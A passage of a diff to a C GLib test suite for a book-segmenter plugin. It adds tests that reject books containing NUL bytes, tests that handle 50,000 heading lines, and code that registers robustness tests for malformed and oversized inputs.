+  g_autoptr (SutraItem) book = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autoptr (GPtrArray) items = NULL;
+
+  g_test_summary ("A NUL byte anywhere in a plain text or Markdown book refuses it, naming "
+                  "its byte offset");
+  for (gsize i = 0; i < size; i++)
+    text[i] = i % 70 == 69 ? '\n' : "Some text. "[i % 11];
+  text[nul_bytes[row].offset] = '\0';
+  book = make_book (nul_bytes[row].name, "/books/nul.txt", nul_bytes[row].media_type,
+                    g_bytes_new (text, size));
+  items = segment (NULL, book, &error);
+  g_assert_null (items);
+  g_assert_error (error, SUTRA_PLUGIN_ERROR, SUTRA_PLUGIN_ERROR_INVALID_INPUT);
+  g_assert_true (g_str_has_prefix (error->message, "/books/nul.txt: "));
+  g_assert_nonnull (strstr (error->message, cause));
+}
+
+/* Plain texts of 50,000 headings: a table of contents that never ends,
+ * and as many one-line chapters. */
+static const struct
+{
+  const char *name;
+  gboolean numbered; /* "CHAPTER n" and a line of text, else "CHAPTER I" alone */
+  const char *tail;
+  guint n_chapters;
+  guint n_items;
+} many_headings[] = {
+  { "toc-lines", FALSE, "The end.\n", 2, 50000 },
+  { "numbered", TRUE, "", 50000, 50000 },
+};
+
+static void
+test_segmenter_many_headings (gconstpointer data)
+{
+  guint row = GPOINTER_TO_UINT (data);
+  GString *text = g_string_new (NULL);
+  g_autoptr (SutraItem) book = NULL;
+  g_autoptr (GPtrArray) items = NULL;
+  g_autoptr (GPtrArray) titles = NULL;
+
+  g_test_summary ("50,000 heading lines: a table of contents that never ends is text "
+                  "before its one chapter, and 50,000 numbered chapters are chapters");
+  for (guint i = 1; i <= 50000; i++)
+    if (many_headings[row].numbered)
+      g_string_append_printf (text, "CHAPTER %u\n\nSome text.\n\n", i);
+    else
+      g_string_append (text, "CHAPTER I\n\n");
+  g_string_append (text, many_headings[row].tail);
+  book = make_book (many_headings[row].name, "/books/many.txt", "text/plain",
+                    g_string_free_to_bytes (text));
+  items = segment_ok (NULL, book);
+  titles = chapter_titles (items);
+  assert_well_formed (items, many_headings[row].name);
+  g_assert_cmpuint (titles->len, ==, many_headings[row].n_chapters);
+  g_assert_cmpuint (items->len, ==, many_headings[row].n_items);
+  g_assert_cmpstr (titles->pdata[titles->len - 1], ==, row == 0 ? "CHAPTER I" : "CHAPTER 50000");
+}
+
 int
 main (int argc, char **argv)
 {
@@ -2174,6 +2920,46 @@ main (int argc, char **argv)
         g_strdup_printf ("/plugins/segmenter/bad-input/%s", bad_inputs[i].name);
 
       g_test_add_data_func (test_path, &bad_inputs[i], test_segmenter_bad_input);
+    }
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_cases); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/hostile/%s", hostile_cases[i].name);
+
+      g_test_add_data_func (test_path, &hostile_cases[i], test_segmenter_hostile);
+    }
+
+  for (guint i = 0; i < G_N_ELEMENTS (size_lies); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/entry-larger-than-declared/%s", size_lies[i].name);
+
+      g_test_add_data_func (test_path, GUINT_TO_POINTER (i),
+                            test_segmenter_entry_larger_than_declared);
+    }
+
+  for (guint i = 0; i < G_N_ELEMENTS (long_lines); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/long-line/%s", long_lines[i].name);
+
+      g_test_add_data_func (test_path, &long_lines[i], test_segmenter_long_line);
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (nul_bytes); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/nul-bytes/%s", nul_bytes[i].name);
+
+      g_test_add_data_func (test_path, GUINT_TO_POINTER (i), test_segmenter_nul_bytes);
+    }
+
+  for (guint i = 0; i < G_N_ELEMENTS (many_headings); i++)
+    {
+      g_autofree char *test_path =
+        g_strdup_printf ("/plugins/segmenter/many-headings/%s", many_headings[i].name);
+
+      g_test_add_data_func (test_path, GUINT_TO_POINTER (i), test_segmenter_many_headings);
     }
 
   status = g_test_run ();
